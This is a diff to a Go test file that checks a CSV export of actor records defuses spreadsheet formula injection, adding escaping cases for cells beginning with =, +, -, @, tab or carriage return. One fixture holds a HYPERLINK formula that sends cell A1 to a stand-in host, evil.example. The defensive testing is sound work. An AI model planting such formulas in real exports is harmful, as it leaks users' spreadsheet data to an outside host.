@@ -108,7 +108,8 @@ func TestActorFilter(t *testing.T) {
 func TestWriteActorsCSV(t *testing.T) {
 	var buf bytes.Buffer
 	actors := []observatory.Actor{{ID: "cr-ana", Name: "Ana, \"la\" coordinadora", Kind: "person", Country: "CR",
-		Areas: []string{"migration", "health"}, Email: "ana@example.org", Notes: "línea 1\nlínea 2"}}
+		Areas: []string{"migration", "health"}, Email: "ana@example.org", Phone: "+506 2222-3333",
+		Notes: "línea 1\nlínea 2", Role: `=HYPERLINK("https://evil.example/?"&A1,"ver")`}}
 	if err := observatory.WriteActorsCSV(&buf, actors); err != nil {
 		t.Fatal(err)
 	}
@@ -124,9 +125,36 @@ func TestWriteActorsCSV(t *testing.T) {
 		row[c] = recs[1][i]
 	}
 	for k, want := range map[string]string{"name": actors[0].Name, "areas": "migration; health", "email": "ana@example.org",
-		"notes": "línea 1\nlínea 2", "council_candidate": "false"} {
+		"notes": "línea 1\nlínea 2", "council_candidate": "false",
+		// what a spreadsheet would run as a formula is defused
+		"phone": "'+506 2222-3333", "role": `'=HYPERLINK("https://evil.example/?"&A1,"ver")`} {
 		if row[k] != want {
 			t.Errorf("%s: got %q, want %q", k, row[k], want)
+		}
+	}
+}
+
+func TestSpreadsheetCell(t *testing.T) {
+	for in, want := range map[string]string{
+		"":                 "",
+		"La Nación":        "La Nación",
+		"=1+1":             "'=1+1",
+		"+506 2222-3333":   "'+506 2222-3333",
+		"-2":               "'-2",
+		"@SUM(A1)":         "'@SUM(A1)",
+		"\tx":              "'\tx",
+		"\rx":              "'\rx",
+		"'ya citado":       "'ya citado",
+		"'=ya defendido":   "''=ya defendido",
+		"a=b":              "a=b",
+		"https://x.org/=a": "https://x.org/=a",
+	} {
+		got := observatory.SpreadsheetCell(in)
+		if got != want {
+			t.Errorf("SpreadsheetCell(%q) = %q, want %q", in, got, want)
+		}
+		if back := observatory.PlainCell(got); back != in {
+			t.Errorf("PlainCell(%q) = %q, want %q", got, back, in)
 		}
 	}
 }
